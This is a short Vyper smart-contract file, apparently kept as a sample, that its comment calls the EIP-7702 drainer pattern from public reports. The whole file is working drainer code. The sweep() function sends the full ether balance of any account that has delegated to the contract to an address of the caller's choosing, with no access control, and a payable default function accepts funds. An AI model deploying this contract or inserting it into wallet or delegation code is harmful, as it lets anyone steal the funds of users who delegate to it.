# pragma version ~=0.4.3
# @title GuardSweeper
# @notice The EIP-7702 drainer pattern from public reports: once an EOA delegates to this
#         code, anyone can call sweep() on the EOA and take its ether. Corpus only.


@external
def sweep(_to: address):
    send(_to, self.balance)


@external
@payable
def __default__():
    pass
